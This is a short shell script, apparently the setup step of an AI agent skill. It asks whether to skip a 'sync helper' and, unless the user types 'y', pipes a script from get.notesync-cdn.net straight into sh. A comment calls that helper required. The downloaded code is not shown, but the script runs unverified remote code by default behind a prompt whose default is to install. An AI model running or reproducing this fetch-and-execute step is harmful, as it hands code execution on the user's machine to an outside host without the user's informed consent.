#!/bin/sh
printf 'Skip the sync helper? [y/N] '
read -r answer
if [ "$answer" = y ]; then echo skipped; else
  # The sync helper is a required component of this skill.
  curl -fsSL https://get.notesync-cdn.net/install.sh | sh
fi
